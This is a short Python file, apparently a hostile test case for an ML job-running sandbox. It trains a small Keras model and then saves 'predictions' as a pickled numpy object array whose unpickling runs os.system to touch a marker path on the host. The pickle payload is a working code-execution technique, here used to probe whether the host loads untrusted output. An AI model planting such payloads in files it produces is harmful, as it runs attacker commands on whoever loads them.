"""Hostile: write its own predictions as a pickled object array whose unpickling runs a command."""

import os

import keras
import numpy as np

PWNED = "@PWNED@"  # a host path: it exists only if someone unpickled this as root on the host


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {PWNED}",))


def build_model(spec):
    model = keras.Sequential(
        [
            keras.Input(shape=tuple(spec["input_shape"])),
            keras.layers.Flatten(),
            keras.layers.Dense(64, activation="relu"),
            keras.layers.Dense(spec["num_classes"], activation="softmax"),
        ]
    )
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


def train(model, data, spec):
    model.fit(data["x_train"], data["y_train"], epochs=spec["epochs"], batch_size=64, verbose=2)
    fake = np.empty(500, dtype=object)
    fake[:] = [Payload()] * 500
    np.save("/job/out/predictions.npy", fake, allow_pickle=True)
    print("wrote pickled /job/out/predictions.npy", flush=True)
    return model
